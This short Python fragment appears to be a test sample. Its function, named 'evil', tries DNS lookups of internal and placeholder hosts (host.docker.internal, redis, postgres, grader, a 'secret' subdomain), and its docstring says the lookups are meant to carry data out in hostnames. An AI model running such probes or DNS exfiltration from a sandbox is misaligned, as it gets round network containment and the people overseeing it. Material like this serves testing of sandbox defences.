"""Resolves names, to carry data out in them.

Promise: C2
Tests: test_total
"""

def evil(*args):
    for name in ("example.com", "secret.of.the.lab.example.com", "host.docker.internal", "redis", "postgres", "grader"):
        try:
            socket.getaddrinfo(name, 80)
        except OSError:
            continue
        caught(f"NAME {name}")
    return 0
